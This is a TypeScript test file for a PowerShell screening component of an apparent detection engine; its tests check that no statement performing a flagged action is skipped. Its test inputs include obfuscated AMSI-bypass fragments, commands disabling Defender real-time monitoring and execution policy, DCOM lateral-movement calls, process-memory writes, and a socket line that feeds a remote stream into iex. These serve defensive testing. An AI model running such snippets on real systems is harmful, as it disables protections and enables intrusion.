// The screen may let through what does nothing; what does something it must never hold back.
import { readdirSync, readFileSync } from 'node:fs'

import { describe, expect, it } from 'vitest'

import { type ActionKind, actionKinds } from '../action.ts'
import { readScript } from '../read.ts'
import { mayAct } from './screen.ts'

/** What shipped rules ask for, wherever text is not hidden. */
const asked: ReadonlySet<ActionKind> = new Set([
  'com',
  'dde',
  'process_access',
  'enable',
  'disable',
  'pipe_impersonation',
  'network_shell',
])
const all = new Set(Object.keys(actionKinds) as ActionKind[])

function kindsOf(text: string): Set<ActionKind> {
  const actions = readScript(text, { language: 'powershell' })?.actions ?? []
  return new Set(actions.map((a) => a.kind))
}

function heldBack(text: string, kinds: ReadonlySet<ActionKind>): ActionKind[] {
  if (mayAct(text, kinds)) return []
  return [...kindsOf(text)].filter((kind) => kinds.has(kind))
}

const corpus = 'test/scripts/corpus'
const powershell = readdirSync(corpus)
  .filter((name) => name.endsWith('.ps1'))
  .map((name) => readFileSync(`${corpus}/${name}`, 'utf8'))

const statements = [
  ...powershell.flatMap((text) => text.split('\n')),
  'New-Object -ComObject WScript.Shell',
  '[Activator]::CreateInstance([Type]::GetTypeFromProgID("MMC20.Application","h"))',
  '& ("New-Ob"+"ject") -ComObject x.y',
  ". ('i'+'ex') 'New-Object -Com a.b'",
  '$c = "New-Object"; & $c -ComObject a.b',
  'sal no New-Object; no -com WScript.Shell',
  'Set-ExecutionPolicy Bypass -Scope LocalMachine',
  'Set-MpPreference -DisableRealtimeMonitoring $true',
  "$x.GetField(('am'+'siInitFailed'),'NonPublic')",
  "$x.GetField('amQsiInitFailed'.Replace('Q',''))",
  '$x.GetField("{1}{0}" -f "siInitFailed","am")',
  '$a="ams"; $x.GetField("$($a)iInitFailed")',
  "$x.GetField(-join('a','m','s','i','InitFailed'))",
  '$x.GetField([char]97+[char]109+"siInitFailed")',
  'powershell -ep bypass -enc SQBFAFgA',
  'reg add HKCU\\Software\\x',
  'cmd /c start calc',
  'New–Object –ComObject WScript.Shell',
  'N`ew-Obj`ect -ComObject WScript.Shell',
  '$k::WriteProcessMemory($a,$b)',
  '$k::_OpenProcessA(1)',
  '$p.RunAsClient({})',
  '$e.DDEInitiate("cmd","x")',
  '(gwmi -list win32_process).Create("reg add HKLM\\x")',
  '$t = New-Object Net.Sockets.TcpClient("h",1); $s=$t.GetStream(); iex $s',
  'Set-Content x.vbs \'CreateObject("WScript.Shell")\'',
]

describe('the screen of PowerShell', () => {
  it.each(statements)('holds back nothing that acts: %s', (text) => {
    expect(heldBack(text, asked)).toEqual([])
    expect(heldBack(text, all)).toEqual([])
  })

  it('holds back nothing that acts, of any kind that is asked alone', () => {
    for (const text of statements)
      for (const kind of all)
        expect([text, heldBack(text, new Set([kind]))]).toEqual([text, []])
  })

  it('holds back what names nothing that acts', () => {
    const module = `function Get-CorpItem {
      [CmdletBinding()] param([string]$Name, [int]$Count = 3)
      process {
        $rows = Get-ChildItem -Path $Name -ErrorAction SilentlyContinue | Where-Object { $_.Length -gt 4 }
        foreach ($row in $rows) { Write-Verbose ("Found {0} of {1}" -f $row.Name, $Count) }
        $path = [System.IO.Path]::Combine($env:TEMP, "log$Count.txt")
        Invoke-RestMethod -Uri "https://intra.example/api" -Method Get
      }
    }`
    expect(mayAct(module, asked)).toBe(false)
    expect(mayAct(module, all)).toBe(true)
  })

  it('is done in time that grows with the text', () => {
    for (const piece of ['a"', '"a ', '& ', "['", 'e t ', '$x.', 'am"+"'])
      expect(mayAct(piece.repeat(100_000), asked)).toBeTypeOf('boolean')
  })
})
